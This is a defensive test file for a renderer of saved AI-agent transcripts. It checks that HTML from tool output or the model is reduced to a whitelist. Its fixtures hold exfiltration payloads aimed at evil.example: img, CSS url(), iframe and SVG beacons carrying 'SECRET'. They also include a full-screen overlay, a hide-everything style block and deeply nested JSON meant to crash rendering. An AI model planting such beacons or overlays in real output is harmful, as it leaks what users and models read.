// Red team: a tool's HTML value in a saved transcript (it may hold the model's text) is
// rebuilt from a whitelist after the page's sanitizer, which keeps <img src="https://...">
// (a beacon carrying what the model read) and inline styles (an overlay on the page).
'use strict';

const assert = require('node:assert/strict');
const { test } = require('node:test');
const { JSDOM } = require('jsdom');

const dom = new JSDOM('<!doctype html><html><body></body></html>');
global.document = dom.window.document;

const { renderTranscript } = require('../lib-test/render.js');

// What JupyterLab's sanitizer lets through (it drops on* handlers and scripts, keeps these).
const LEAKY = { sanitizer: { sanitize: html => html }, markdown: null };
const VALUE =
  '<img src="https://evil.example/?k=SECRET"><a href="https://evil.example/">link</a>' +
  '<div style="position:fixed;inset:0;background:#fff">overlay</div>' +
  '<table class="dataframe"><tr><th colspan="2" onclick="x()">head</th></tr><tr><td>cell</td></tr></table>' +
  '<svg><image href="https://evil.example/s"/></svg><style>*{display:none}</style>' +
  '<iframe src="https://evil.example/f"></iframe><video poster="https://evil.example/p"></video>';

function transcript(html) {
  return {
    version: 1, model: 'm', stop_reason: 'end_turn', error: null, turns: 1,
    usage: { input_tokens: 1, output_tokens: 1, cache_read_input_tokens: 0, cost_usd: 0 },
    items: [{ kind: 'tool', id: 't', name: 'note', arguments: '{}', status: 'ok', result: 'r', display: { 'text/html': html } }]
  };
}

test("a tool's HTML value can neither fetch, link, run nor style", () => {
  const root = renderTranscript(transcript(VALUE), LEAKY, []);
  const shown = root.querySelector('[data-nbt="display"]');
  assert.ok(shown, 'the display was not rendered: the checks below would check nothing');
  for (const el of shown.querySelectorAll('*')) {
    for (const attr of el.getAttributeNames()) {
      assert.ok(['colspan', 'rowspan', 'align'].includes(attr), `${el.localName} kept ${attr}`);
    }
    assert.ok(!['img', 'a', 'svg', 'image', 'style', 'iframe', 'video', 'script'].includes(el.localName), el.localName);
  }
  assert.equal(shown.querySelector('th').getAttribute('colspan'), '2');
  assert.match(shown.textContent, /head/);
  assert.match(shown.textContent, /cell/);
  assert.match(shown.textContent, /overlay/); // the text stays, as text
  assert.doesNotMatch(shown.textContent, /display:none/);
});

test("the model's Markdown keeps no attribute that fetches, styles or overlays", () => {
  const { modelAttributesOnly } = require('../lib-test/safehtml.js');
  // what JupyterLab's sanitizer returns for the model's raw HTML (it keeps these)
  const html =
    '<p><span style="background-image:url(https://evil.example/?k=SECRET)">s</span>' +
    '<div class="jp-Dialog lm-mod-hidden" id="x" hidden inert tabindex="1" dir="rtl">d</div>' +
    '<a href="https://docs.example/" title="t" style="position:fixed" class="jp-Button">l</a></p>' +
    '<pre><code class="language-python evil"><span class="cm-keyword jp-Dialog">def</span></code></pre>' +
    '<table><tr><td colspan="2" style="list-style-image:url(https://evil.example/l)">c</td></tr></table>';
  const out = modelAttributesOnly(html);
  const host = document.createElement('div');
  host.innerHTML = out;
  for (const el of host.querySelectorAll('*')) {
    for (const name of el.getAttributeNames()) {
      assert.ok(['href', 'title', 'class', 'colspan'].includes(name), `${el.localName} kept ${name}`);
    }
  }
  assert.doesNotMatch(out, /evil\.example|jp-Dialog|jp-Button|lm-mod-hidden|hidden|rtl/);
  assert.equal(host.querySelector('a').getAttribute('href'), 'https://docs.example/');
  assert.equal(host.querySelector('code').className, 'language-python');
  assert.equal(host.querySelector('pre span').className, 'cm-keyword');
  assert.equal(host.querySelector('td').getAttribute('colspan'), '2');
});

test('arguments nested thousands deep are shown as text, and the transcript still renders', () => {
  // the model writes the arguments: `[[[[...]]]]` 2,000 deep made JSON.stringify (and the
  // renderers' recursion) throw, and the whole saved conversation failed to render
  for (const depth of [2000, 200000]) {
    const raw = '{"path": ' + '['.repeat(depth) + ']'.repeat(depth) + '}';
    const t = transcript('');
    t.items[0].arguments = raw;
    delete t.items[0].display;
    const root = renderTranscript(t, LEAKY, []);
    const args = root.querySelector('[data-nbt="args"]');
    assert.ok(args, 'the arguments were not rendered');
    assert.ok(args.textContent.startsWith('{"path": [[[['), args.textContent.slice(0, 40));
  }
});
